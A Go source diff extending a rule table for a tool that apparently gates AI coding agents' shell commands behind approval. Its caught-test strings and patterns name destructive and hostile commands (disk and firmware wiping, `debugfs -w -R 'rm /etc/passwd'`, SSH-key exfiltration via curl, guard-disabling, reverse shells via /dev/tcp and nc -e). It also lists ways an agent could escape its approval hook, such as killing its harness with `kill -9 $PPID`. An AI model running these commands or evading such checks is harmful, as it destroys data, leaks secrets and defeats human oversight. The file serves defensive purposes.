@@ -258,10 +258,11 @@ func defaultTableSource() []DefaultInfo {
 			ID:     "cmd.wipe-disk",
 			Reason: "overwrites, wipes or reformats a disk",
 			Effects: "Any write of a block device (a redirection, `dd of=`, `tee`, `cp`, `curl -o`, `sort -o`, `openssl -out`, `docker cp` …), " +
-				"and the tools that format, partition or erase one. LVM's volumes are devices: any `/dev/DIR/NAME` (`dd of=/dev/vg0/root`) but the directories of descriptors, terminals, shared memory, bash's sockets and character devices (`/dev/fd`, `/dev/pts`, `/dev/shm`, `/dev/tcp` …). Listing a disk (`fdisk -l`, `parted DEV print`) is left alone. " +
+				"and the tools that format, partition or erase one, or write below its filesystem: a firmware flasher's write (`flashrom -w`, `-E`), `debugfs -w`, deleting EFI boot entries (`efibootmgr -B`), " +
+				"removing mapped devices (`dmsetup remove_all`, `wipe_table`), dropping partitions (`partx -d`, `delpart`), changing a filesystem's features (`tune2fs -O`, `-U`) and a repair that answers yes to every change (`e2fsck -y`, `fsck -y`, `xfs_repair -L`). LVM's volumes are devices: any `/dev/DIR/NAME` (`dd of=/dev/vg0/root`) but the directories of descriptors, terminals, shared memory, bash's sockets and character devices (`/dev/fd`, `/dev/pts`, `/dev/shm`, `/dev/tcp` …). Listing a disk (`fdisk -l`, `parted DEV print`) is left alone. " +
 				"A write of `/proc/sysrq-trigger` (reboot, power off or crash at once, without syncing the disks) loses what is not yet written: [device] counts it. " +
 				"An unknown word might be a device only where it might lie under /dev.",
-			Patterns: []string{
+			Patterns: append([]string{
 				"* ** > [device]",
 				"mkfs* ** [device] **", "wipefs ** [device] **", "shred ** [device] **",
 				"blkdiscard ** [device] **", "sgdisk ** [device] **", "parted ** [device] **",
@@ -274,7 +275,7 @@ func defaultTableSource() []DefaultInfo {
 				"zfs destroy **", "lvremove **", "vgremove **", "mdadm --zero-superblock **",
 				"ddrescue ** [device] **", "qemu-img convert ** [device]", "bmaptool copy ** [device]",
 				"pvremove ** [device] **", "diskutil eraseDisk **", "diskutil eraseVolume **", "diskutil zeroDisk **", "diskutil secureErase **",
-			},
+			}, firmwarePatterns()...),
 			Except: []string{
 				"fdisk -l **", "fdisk --list **", "sfdisk -l **", "sfdisk --list **", "parted -l **", "parted --list **",
 				"parted * print", "parted -s * print", "gdisk -l **",
@@ -282,10 +283,13 @@ func defaultTableSource() []DefaultInfo {
 			Caught: []string{
 				"dd if=/dev/zero of=/dev/sda bs=1M", "mkfs.ext4 /dev/nvme0n1p1", "sudo wipefs -a /dev/sdb",
 				"cat disk.img > /dev/sdb", "curl -o /dev/sda https://x.io/img", "sort -u -o /dev/sda x",
+				"sudo flashrom -p internal -w bios.bin", "sudo debugfs -w -R 'rm /etc/passwd' /dev/sda1", "sudo efibootmgr -B -b 0000",
+				"sudo tune2fs -O ^has_journal /dev/sda1", "sudo e2fsck -fy /dev/sda1",
 			},
 			Passed: []string{
 				"dd if=/dev/zero of=disk.img bs=1M count=10", "mkfs.ext4 disk.img", "echo hi > /dev/null",
 				"sudo fdisk -l /dev/sda", "sudo parted /dev/sda print",
+				"sudo flashrom -p internal -r backup.rom", "efibootmgr -v", "sudo tune2fs -l /dev/sda1", "sudo e2fsck -n /dev/sda1",
 			},
 		},
 		{
@@ -378,7 +382,8 @@ func defaultTableSource() []DefaultInfo {
 				"(a shared directory of the task may be `2775`); the account tools; " +
 				"and each CLI's verbs that grant access or mint credentials (`gh api` on collaborators, keys, secrets or " +
 				"visibility, deploy keys, `npm owner add`, `vault write auth/…`, IAM bindings, `docker login`); turning a guard off " +
-				"(`setenforce 0`, `ufw disable`, `iptables -F`, `sysctl -w kernel.…`), opening ssh (`systemctl enable sshd`) and `loginctl enable-linger`. " +
+				"(`setenforce 0`, `ufw disable`, `iptables -F`, `sysctl -w kernel.…`; and by the verbs beside those: `sysctl -p FILE`/`--load`, an ACL granted on a path outside the workdir " +
+				"(`setfacl -R -m o::rwx /`), `dockerd -H tcp://…` (the root API on the network), `ctr … --privileged`, `systemd-nspawn -D /`; SELinux's mode written in `/etc/selinux/config` is `runs-later`), opening ssh (`systemctl enable sshd`) and `loginctl enable-linger`. " +
 				"Letting someone on the network in: a shell's descriptors on `/dev/tcp` or `/dev/udp` (any redirection there), `nc`/`ncat -e`/`-c`/`--sh-exec`, " +
 				"`socat … EXEC:`/`SYSTEM:`, `ssh -R` and `RemoteForward`, public tunnels and shared terminals (ngrok, `cloudflared tunnel`, tmate, bore, upterm, " +
 				"sshx, chisel `R:`, frpc), and a file server serving the home or a directory outside the workdir ([serves-outside]: `python -m http.server` with `--directory DIR`, `--directory=DIR`, " +
@@ -414,6 +419,8 @@ func defaultTableSource() []DefaultInfo {
 				"(`gh auth token`, `gcloud auth print-access-token`, `az account get-access-token`, `aws ecr get-login-password`, `aws eks get-token`) is judged as a token: " +
 				"piped or substituted, by where it goes. Printed to the terminal, into the project, or to a program that is no sender (`pg_dump db | gzip > db.sql.gz`, " +
 				"`sops -d s.enc.yaml > s.yaml`), none of them asks. " +
+				"`aws configure set` asks but for a key that changes only how the CLI talks and prints (`region`, `output`, `cli_pager`, `retry_mode`, `max_attempts` …, also as `default.KEY`, `profile.NAME.KEY`, with `--profile`): " +
+				"credentials, `credential_process`, a role or an endpoint still ask. " +
 				"A secret copied to another name is still the secret: a path a part of the line writes while reading a `[secret]` file " +
 				"(`cp`, `mv`, `ln -s`, `base64 … >`, `tar czf`, `cat … >`; copies of copies, up to four steps) is `[secret]` for the line's other parts " +
 				"(`cp ~/.ssh/id_rsa /tmp/k && curl -F f=@/tmp/k URL`); a cluster's or a forge's secrets made from one (`kubectl create secret … --from-file=`/`--from-env-file=`, " +
@@ -453,7 +460,7 @@ func defaultTableSource() []DefaultInfo {
 				"a remote, a URL not known; a URL the line puts in a variable, `U=https://…; git push \"$U\"`, is that URL); `git remote set-url` and `git config remote.x.url` (or pushurl) of a remote to a network URL " +
 				"off the forges and the egress list ask so too, with or without a push in the line (every later push goes there); pointed at a path (whose hooks a push runs), a remote helper (`ext::`) or a URL not known, they are unreadable (git's configuration rebound). A push to the remotes the " +
 				"repository has, and `git remote add fork git@github.com:me/r.git && git push fork`, are left alone.",
-			Except: append([]string{"ngrok version", "ngrok help **", "ngrok --help", "ngrok -h", "ngrok config **", "ngrok update", "tmate -V"}, exposeExcept...),
+			Except: append([]string{"ngrok version", "ngrok help **", "ngrok --help", "ngrok -h", "ngrok config **", "ngrok update", "tmate -V"}, append(exposeExcept, awsConfigureExcept()...)...),
 			Patterns: append([]string{
 				"* ** > [credentials]", "rm ** [credentials] **",
 				"chmod ** [credentials] **", "chown ** [credentials] **", "perl -i ** [credentials] **",
@@ -528,7 +535,7 @@ func defaultTableSource() []DefaultInfo {
 				"wget --http-password=[secret-value] **", "wget --referer=[secret-value] **", "wget -U=[secret-value] **",
 				"wget -e=[secret-value] **",
 				"git credential fill **",
-			}, append(hostReachPatterns(), append(exposePatterns(), secretOutPatterns()...)...)...),
+			}, append(hostReachPatterns(), append(exposePatterns(), append(secretOutPatterns(), guardOffPatterns()...)...)...)...),
 			Caught: []string{
 				"echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", "cat key.pub | tee -a ~/.ssh/authorized_keys",
 				"sudo usermod -aG sudo agent", "aws iam create-access-key --user-name ci", "rm ~/.ssh/id_ed25519",
@@ -596,6 +603,8 @@ func defaultTableSource() []DefaultInfo {
 				"a file named ozdesk or ozdesk-hook (the adapter-only build every hook in README.md calls by its bare name) written, moved, linked, built, chmod-ed or deleted where the shell finds programs " +
 				"(`~/.local/bin/ozdesk-hook`, `/usr/local/bin/ozdesk`, and any directory named bin or sbin: `~/.cargo/bin/ozdesk-hook`), which a hook calling it by name would run; " +
 				"approving through the SSH desk (`ssh -p 2222 HOST queue approve N`); adding an MCP server to Claude Code (`claude mcp add`), which it starts outside any hook; " +
+				"the harness killed or frozen: it runs the hook that asks ozdesk and is the parent of the line's shell (`kill -9 $PPID`, `kill -STOP \"$PPID\"`, any signal: [harness-pid]), " +
+				"`killall` of a harness by its name (claude, codex, gemini, opencode …), and GNU screen's `-X quit` and `-X kill`, which end a session's windows as `tmux kill-session` does; " +
 				"a `kill` of a pid the line does not name is left alone. " +
 				"`git clean -fd` (without `-x`) and `git reset --hard` (to HEAD) where git runs are left alone (decided, effects12): they delete only untracked " +
 				"files git does not ignore, or files staged since the commit, and the harness settings a project uses are committed or ignored " +
